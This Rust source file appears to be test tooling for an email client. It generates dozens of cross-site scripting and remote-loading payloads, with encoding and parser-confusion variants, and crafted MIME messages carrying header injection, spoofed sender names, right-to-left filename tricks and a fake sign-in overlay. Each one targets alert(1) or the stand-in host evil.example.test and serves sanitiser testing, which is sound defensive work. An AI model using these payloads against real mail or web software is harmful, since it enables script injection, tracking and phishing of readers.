//! Ways to get a script into the page of who reads a message, or a request out of it, each in several forms.
//!
//! What would run says `alert(1)`, what would be asked for lies at `evil.example.test`; neither may be seen to happen.

/// One way, as HTML.
pub(crate) struct Technique {
    pub(crate) name: &'static str,
    html: &'static str,
}

/// All of them that are HTML.
pub(crate) fn all() -> impl Iterator<Item = Technique> {
    HTML.into_iter().map(|(name, html)| Technique { name, html })
}

impl Technique {
    /// The same in other words: case, quotes, references, white space, and what it stands in.
    pub(crate) fn variants(&self) -> Vec<String> {
        let html = self.html;
        let mut all = vec![
            html.to_owned(),
            html.to_ascii_uppercase().replace("ALERT", "alert"),
            mixed(html),
            html.replace('"', "'"),
            html.replace('"', ""),
            html.replace("=\"", "\n=\t\""),
            html.replace(' ', "/"),
            html.replace(' ', "\x0c"),
            html.replace(":alert", "&colon;alert").replace("java", "&#106;&#x61;v&#0000097"),
            html.replace("script:", "scr\tipt:").replace("java", "\x01java"),
            html.replace("script:", "scr&NewLine;ipt&#58"),
            html.replace("<", "<\0"),
            html.replace(">", "\0>"),
            html.replacen('>', "", 1),
            html.replace("</", "</ "),
            format!("<{html}"),
        ];
        for (before, behind) in AROUND {
            all.push(format!("{before}{html}{behind}"));
        }
        all
    }
}

/// Whole messages, each with a name that says what it is. They are addressed to nobody: who delivers them adds that.
pub(crate) fn messages() -> Vec<(String, Vec<u8>)> {
    let mut all = Vec::new();
    for technique in self::all() {
        let (name, variants) = (technique.name, technique.variants());
        all.push((name.to_owned(), html_message(name, &variants[0])));
        // The others together, each in a place of its own; what hides all that follows is on its own above.
        let others: String = variants[1..].iter().map(|variant| format!("<div>{variant}</div>\n")).collect();
        all.push((format!("{name}, in other words"), html_message(name, &others)));
    }
    all.extend(MESSAGES.into_iter().map(|(name, lines)| (name.to_owned(), crlf(lines))));
    all.push(("base64 within HTML".to_owned(), encoded("base64", &base64(SCRIPT.as_bytes()))));
    all.push(("quoted-printable".to_owned(), encoded("quoted-printable", &quoted(SCRIPT))));
    all.push(("UTF-16".to_owned(), {
        let octets: Vec<u8> = SCRIPT.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let head = "Content-Type: text/html; charset=utf-16le\nContent-Transfer-Encoding: base64\n\n";
        crlf(&format!("{HEAD}{head}{}", base64(&octets)))
    }));
    all
}

fn html_message(name: &str, html: &str) -> Vec<u8> {
    // NUL and bare line ends may not be in a message as they are.
    let text = quoted(html);
    crlf(&format!(
        "From: Mallory <mallory@evil.example.test>\nSubject: {name}\nDate: Sun, 22 Nov 2026 12:00:00 +0000\n\
         MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n{text}"
    ))
}

fn encoded(encoding: &str, text: &str) -> Vec<u8> {
    crlf(&format!(
        "{HEAD}Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: {encoding}\n\n{text}"
    ))
}

fn crlf(text: &str) -> Vec<u8> {
    let mut octets = text.replace("\r\n", "\n").replace('\n', "\r\n").into_bytes();
    octets.extend_from_slice(b"\r\n");
    octets
}

fn quoted(text: &str) -> String {
    let (mut out, mut column) = (String::new(), 0);
    for octet in text.bytes() {
        if column > 70 {
            out.push_str("=\n");
            column = 0;
        }
        if octet.is_ascii_graphic() && octet != b'=' || octet == b' ' {
            out.push(octet.into());
            column += 1;
        } else {
            out.push_str(&format!("={octet:02X}"));
            column += 3;
        }
    }
    out
}

fn base64(octets: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for (number, three) in octets.chunks(3).enumerate() {
        if number > 0 && number % 19 == 0 {
            out.push('\n');
        }
        let bits =
            three.iter().fold(0_u32, |bits, octet| bits << 8 | u32::from(*octet)) << (8 * (3 - three.len()));
        for place in 0..4 {
            let digit = DIGITS[(bits >> (18 - 6 * place) & 63) as usize];
            out.push(if place <= three.len() { digit.into() } else { '=' });
        }
    }
    out
}

fn mixed(html: &str) -> String {
    let mut upper = false;
    html.chars()
        .map(|c| {
            upper = !upper;
            if upper { c.to_ascii_uppercase() } else { c }
        })
        .collect::<String>()
        .replace("AlErT", "alert")
}

const SCRIPT: &str = "<script>alert(1)</script><img src=x onerror=alert(1)>";

const HEAD: &str = "From: Mallory <mallory@evil.example.test>\nSubject: hello\nDate: Sun, 22 Nov 2026 12:00:00 +0000\n\
                    MIME-Version: 1.0\n";

/// What a technique may stand in, so that it is read otherwise.
const AROUND: [(&str, &str); 22] = [
    ("<svg>", "</svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<table>", "</table>"),
    ("<table><tr><td><table><caption>", "</table></td>"),
    ("<select><option>", "</option></select>"),
    ("<noscript><p title=\"</noscript>", "\"></noscript>"),
    ("<style><!--</style>", "--></style>"),
    ("<title><a title=\"</title>", "\">"),
    ("<textarea><p id=\"</textarea>", "\">"),
    ("<xmp><p title=\"</xmp>", "\">"),
    ("<noembed></noembed>", ""),
    ("<iframe></iframe>", ""),
    ("<template>", "</template>"),
    ("<!--><a>", "-->"),
    ("<!-- --!>", ""),
    ("<![CDATA[", "]]>"),
    ("<svg><![CDATA[><!--", "-->]]></svg>"),
    ("<a title='", "'>"),
    ("<b title=`", "`>"),
    ("\"'>--></style></title></textarea></xmp></script>", ""),
    ("<math><annotation-xml encoding=\"text/html\"><style>", "</style></annotation-xml></math>"),
    ("<form><math><mtext></form><form><mglyph><style></math>", "</style>"),
];

const HTML: [(&str, &str); 62] = [
    ("script", r#"<script>alert(1)</script>"#),
    ("script from elsewhere", r#"<script src="https://evil.example.test/x.js"></script>"#),
    ("script in a script", r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#),
    ("script with a comment", r#"<script><!--<script></script>alert(1)--></script>"#),
    ("script as a module", r#"<script type="module">import "https://evil.example.test/m.js"</script>"#),
    ("image that fails", r#"<img src="x" onerror="alert(1)">"#),
    ("image that is none", r#"<img src="x" onerror=alert(1) src="y" "><script>alert(1)</script>">"#),
    ("an old name of images", r#"<image src="x" onerror="alert(1)">"#),
    (
        "body that loads",
        r#"<body onload="alert(1)" onpageshow="alert(1)" background="https://evil.example.test/b">"#,
    ),
    ("frame set", r#"<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>"#),
    (
        "handlers of anything",
        r#"<p onclick="alert(1)" onmouseover="alert(1)" onanimationstart="alert(1)" onwheel="alert(1)">x</p>"#,
    ),
    (
        "handlers of what has the focus",
        r#"<input autofocus onfocus="alert(1)"><div tabindex="1" autofocus onfocus="alert(1)">x</div>"#,
    ),
    ("handlers of details", r#"<details open ontoggle="alert(1)"><summary>x</summary></details>"#),
    (
        "handlers of media",
        r#"<video onerror="alert(1)"><source onerror="alert(1)"></video><audio src="x" onerror="alert(1)"></audio>"#,
    ),
    ("marquee", r#"<marquee onstart="alert(1)" width="1">x</marquee>"#),
    (
        "handlers of dialogs and popovers",
        r#"<button popovertarget="x">x</button><div popover id="x" onbeforetoggle="alert(1)">y</div>"#,
    ),
    ("link to a script", r#"<a href="javascript:alert(1)">x</a>"#),
    ("link to a script with a comment", r#"<a href="javascript://evil.example.test/%0Aalert(1)">x</a>"#),
    ("link to another language", r#"<a href="vbscript:alert(1)">x</a><a href="livescript:alert(1)">y</a>"#),
    ("link to a document in itself", r#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#),
    (
        "link in an image",
        r##"<img usemap="#m" src="x"><map name="m"><area href="javascript:alert(1)" coords="0,0,9,9"></map>"##,
    ),
    ("link that tells", r#"<a href="https://a.example.test" ping="https://evil.example.test/ping">x</a>"#),
    (
        "frame",
        r#"<iframe src="javascript:alert(1)"></iframe><iframe src="https://evil.example.test/f"></iframe>"#,
    ),
    ("frame with its document", r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#),
    (
        "object",
        r#"<object data="javascript:alert(1)"></object><object data="https://evil.example.test/o"><param name="src" value="x"></object>"#,
    ),
    (
        "embed",
        r#"<embed src="javascript:alert(1)"><embed src="https://evil.example.test/e.svg" type="image/svg+xml">"#,
    ),
    (
        "applet",
        r#"<applet code="https://evil.example.test/a.class" archive="https://evil.example.test/a.jar"></applet>"#,
    ),
    (
        "portal and fenced frame",
        r#"<portal src="https://evil.example.test/"></portal><fencedframe src="https://evil.example.test/"></fencedframe>"#,
    ),
    (
        "form",
        r#"<form action="javascript:alert(1)"><button>x</button><input type="image" src="https://evil.example.test/i"></form>"#,
    ),
    (
        "form of ours",
        r#"<form action="/sign-out" method="post"><input name="seal"><button formaction="https://evil.example.test/">x</button></form>"#,
    ),
    (
        "button with an action",
        r#"<button formaction="javascript:alert(1)">x</button><input type="submit" formaction="javascript:alert(1)">"#,
    ),
    ("base", r#"<base href="https://evil.example.test/" target="_top"><a href="x">x</a><img src="y">"#),
    (
        "refresh",
        r#"<meta http-equiv="refresh" content="0; url=https://evil.example.test/r"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
    ),
    (
        "another policy",
        r#"<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><meta charset="utf-7">"#,
    ),
    ("cookies by meta", r#"<meta http-equiv="Set-Cookie" content="x=alert(1)">"#),
    (
        "style sheet from elsewhere",
        r#"<link rel="stylesheet" href="https://evil.example.test/s.css"><style>@import "https://evil.example.test/i.css";</style>"#,
    ),
    (
        "fetched beforehand",
        r#"<link rel="prefetch" href="https://evil.example.test/p"><link rel="preload" as="image" href="https://evil.example.test/q"><link rel="prerender" href="https://evil.example.test/r">"#,
    ),
    (
        "names asked for beforehand",
        r#"<link rel="dns-prefetch" href="https://evil.example.test/"><link rel="preconnect" href="https://evil.example.test/">"#,
    ),
    (
        "icon and manifest",
        r#"<link rel="icon" href="https://evil.example.test/i"><link rel="manifest" href="https://evil.example.test/m"><html manifest="https://evil.example.test/a">"#,
    ),
    (
        "image from elsewhere",
        r#"<img src="https://evil.example.test/1.png"><img src="//evil.example.test/2.png" alt="x">"#,
    ),
    (
        "image of a set",
        r#"<img srcset="https://evil.example.test/3.png 1x"><picture><source srcset="https://evil.example.test/4.png"><img></picture>"#,
    ),
    (
        "image that comes late",
        r#"<img loading="lazy" data-src="https://evil.example.test/5" lowsrc="https://evil.example.test/6" dynsrc="https://evil.example.test/7" longdesc="https://evil.example.test/8">"#,
    ),
    (
        "background of a table",
        r#"<table background="https://evil.example.test/9"><tr background="https://evil.example.test/10"><td background="https://evil.example.test/11">x</td></tr></table>"#,
    ),
    (
        "poster",
        r#"<video poster="https://evil.example.test/12" src="https://evil.example.test/13" autoplay></video><audio src="https://evil.example.test/14" autoplay></audio><track src="https://evil.example.test/15">"#,
    ),
    (
        "style with an address",
        r#"<div style="background:url(https://evil.example.test/16);background-image:image-set('https://evil.example.test/17' 1x)">x</div>"#,
    ),
    (
        "style with an address in disguise",
        r#"<div style="background:\75\72\6c(https://evil.example.test/18);background:ur/**/l(https://evil.example.test/19);list-style:u\rl(https://evil.example.test/20)">x</div>"#,
    ),
    (
        "style that runs",
        r#"<div style="width:expression(alert(1));behavior:url(https://evil.example.test/x.htc);-moz-binding:url(https://evil.example.test/x.xml#y)">x</div>"#,
    ),
    (
        "style that covers the page",
        r#"<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session has ended. <a href="https://evil.example.test/">Sign in</a></div>"#,
    ),
    (
        "style element",
        r#"<style>*{background:url(https://evil.example.test/21)}@font-face{font-family:x;src:url(https://evil.example.test/22)}body{font-family:x}</style><p>x</p>"#,
    ),
    (
        "style that ends",
        r#"<p style="color:red}</style><script>alert(1)</script>">x</p><style></style><img src="x" onerror="alert(1)"></style>"#,
    ),
    (
        "SVG that loads",
        r#"<svg onload="alert(1)"><script>alert(1)</script><image href="https://evil.example.test/23" xlink:href="https://evil.example.test/24"/></svg>"#,
    ),
    (
        "SVG that moves",
        r#"<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a><set attributeName="onmouseover" to="alert(1)"/></svg>"#,
    ),
    (
        "SVG that uses",
        r#"<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>"#,
    ),
    (
        "SVG as an image",
        r#"<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
    ),
    (
        "MathML",
        r#"<math href="javascript:alert(1)"><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>"#,
    ),
    (
        "a text that is parsed twice",
        r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
    ),
    (
        "names of other elements",
        r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>"#,
    ),
    ("names that change once", r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#),
    (
        "names of the page's own things",
        r#"<a id="document" name="cookie"></a><form id="forms" name="body"><input name="attributes"></form><img name="getElementById"><p id="main" class="hidden">x</p>"#,
    ),
    (
        "conditional comment",
        r#"<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if IE]><script>alert(1)</script><![endif]>"#,
    ),
    (
        "declarations",
        r#"<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;<?php alert(1)?>"#,
    ),
    (
        "shadow and custom elements",
        r#"<div><template shadowrootmode="open"><script>alert(1)</script><slot></slot></template></div><x-y onclick="alert(1)" is="x">z</x-y><template><img src="x" onerror="alert(1)"></template>"#,
    ),
];

/// Whole messages: what is in their header, in their parts, or in how those are told apart.
const MESSAGES: [(&str, &str); 24] = [
    (
        "subject",
        "From: m@evil.example.test\nSubject: <script>alert(1)</script>\"><img src=x onerror=alert(1)>'\n\nx",
    ),
    (
        "subject in encoded words",
        "From: m@evil.example.test\nSubject: =?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= =?utf-8?Q?=3Csvg_onload=3Dalert(1)=3E?=\n\nx",
    ),
    (
        "subject with line ends",
        "From: m@evil.example.test\nSubject: =?utf-8?Q?x=0D=0ASet-Cookie:_a=3Db=0D=0A=0D=0A=3Cscript=3Ealert(1)=3C/script=3E?=\n\nx",
    ),
    (
        "name of the sender",
        "From: \"<img src=x onerror=alert(1)>\\\"'\" <\"<svg/onload=alert(1)>\"@evil.example.test>\nSubject: x\n\nx",
    ),
    (
        "name of the recipients",
        "From: m@evil.example.test\nTo: =?utf-8?Q?=3Cscript=3Ealert(1)=3C/script=3E?= <a@b.test>, <script>alert(1)</script>:a@b;\nCc: \"';alert(1)//\" <c@d.test>\nSubject: x\n\nx",
    ),
    ("name that is an address", "From: \"support@bank.example.test\" <m@evil.example.test>\nSubject: x\n\nx"),
    (
        "name that is written backwards",
        "From: =?utf-8?B?4oCudHNldC5lbHBtYXhlQGtuYWI=?= <m@evil.example.test>\nSubject: =?utf-8?B?4oCuZnNk?=\n\nx",
    ),
    (
        "date and message id",
        "From: m@evil.example.test\nDate: <script>alert(1)</script>\nMessage-ID: <\"onload=alert(1)@<script>alert(1)</script>>\nIn-Reply-To: <javascript:alert(1)>\nReferences: <'><script>alert(1)</script>>\nSubject: x\n\nx",
    ),
    (
        "plain text",
        "From: m@evil.example.test\nSubject: x\n\n<script>alert(1)</script> javascript:alert(1) data:text/html,<script>alert(1)</script>\nhttps://evil.example.test/\"onmouseover=\"alert(1) <https://evil.example.test/'><img/src=x/onerror=alert(1)>>\nmailto:a@b.test?body=<script>alert(1)</script>&attach=/etc/passwd\n> <img src=x onerror=alert(1)>\n-- \n<svg onload=alert(1)>",
    ),
    (
        "plain text that is none",
        "From: m@evil.example.test\nSubject: x\nContent-Type: text/plain; charset=utf-8; x=\"<script>alert(1)</script>\"\n\n<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    ),
    (
        "UTF-7",
        "From: m@evil.example.test\nSubject: x\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
    (
        "ISO-2022-JP",
        "From: m@evil.example.test\nSubject: x\nContent-Type: text/html; charset=iso-2022-jp\n\n<img alt=\"\u{1b}$B\"><img alt=\"\u{1b}(B\" src=x onerror=alert(1) \">",
    ),
    (
        "a charset of nobody",
        "From: m@evil.example.test\nSubject: x\nContent-Type: text/html; charset=\"x-user-defined'><script>alert(1)</script>\"\n\n<script>alert(1)</script>",
    ),
    (
        "encoding of nobody",
        "From: m@evil.example.test\nSubject: x\nContent-Type: text/html\nContent-Transfer-Encoding: <script>alert(1)</script>\n\n<script>alert(1)</script>",
    ),
    (
        "two types",
        "From: m@evil.example.test\nSubject: x\nContent-Type: text/plain\nContent-Type: text/html\n\n<script>alert(1)</script>",
    ),
    (
        "boundaries within each other",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/mixed; boundary=\"a\"; boundary=\"b\"\n\n--b\nContent-Type: text/html\n\n<script>alert(1)</script>\n--b--\n--a\nContent-Type: multipart/alternative; boundary=\"ab\"\n\n--ab\nContent-Type: text/html\n\n<img src=x onerror=alert(1)>\n--ab--\n--a--\n<script>alert(1)</script>",
    ),
    (
        "a root that is elsewhere",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/related; boundary=\"r\"; start=\"<2@x>\"; type=\"text/html\"\n\n--r\nContent-Type: image/svg+xml\nContent-ID: <1@x>\n\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>\n--r\nContent-Type: text/html\nContent-ID: <2@x>\n\n<img src=\"cid:1@x\"><iframe src=\"cid:1@x\"></iframe><object data=\"cid:1@x\"></object>\n--r--",
    ),
    (
        "image that is a page",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/related; boundary=\"r\"\n\n--r\nContent-Type: text/html\n\n<img src=\"cid:1@x\">\n--r\nContent-Type: image/png\nContent-ID: <1@x>\n\n<html><script>alert(1)</script></html>\n--r--",
    ),
    (
        "name of a file",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\n\nx\n--m\nContent-Type: application/octet-stream; name=\"<img src=x onerror=alert(1)>.html\"\nContent-Disposition: attachment; filename=\"../../\\\"><script>alert(1)</script>.html\"\n\nx\n--m\nContent-Type: text/html\nContent-Disposition: attachment; filename*=utf-8''%0D%0ASet-Cookie%3A%20a=b%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E.html\n\n<script>alert(1)</script>\n--m--",
    ),
    (
        "name of a file that is written backwards",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\n\nx\n--m\nContent-Type: image/png\nContent-Disposition: attachment; filename*=utf-8''photo%E2%80%AEgnp.exe\n\nx\n--m--",
    ),
    (
        "type of a file",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\n\nx\n--m\nContent-Type: text/html; charset=\"<script>\"\nContent-Disposition: attachment; filename=a.png\n\n<script>alert(1)</script>\n--m\nContent-Type: image/svg+xml\nContent-Disposition: inline; filename=a.svg\n\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n--m\nContent-Type: application/xhtml+xml\nContent-Disposition: attachment; filename=a.xhtml\n\n<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>\n--m\nContent-Type: <script>/alert(1)\n\nx\n--m--",
    ),
    (
        "message within",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\nContent-Type: message/rfc822\n\nFrom: \"<script>alert(1)</script>\" <a@b.test>\nSubject: <img src=x onerror=alert(1)>\nContent-Type: text/html\n\n<script>alert(1)</script>\n--m--",
    ),
    (
        "report",
        "From: m@evil.example.test\nSubject: x\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"m\"\n\n--m\n\nx\n--m\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; <script>alert(1)</script>\n\nFinal-Recipient: rfc822; <img src=x onerror=alert(1)>\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 <svg onload=alert(1)>\n--m--",
    ),
    (
        "lists that answer",
        "From: m@evil.example.test\nReply-To: \"<script>alert(1)</script>\" <javascript:alert(1)@x>\nList-Unsubscribe: <javascript:alert(1)>, <https://evil.example.test/u>\nSubject: x\nX-Mailer: <script>alert(1)</script>\n\nx",
    ),
];
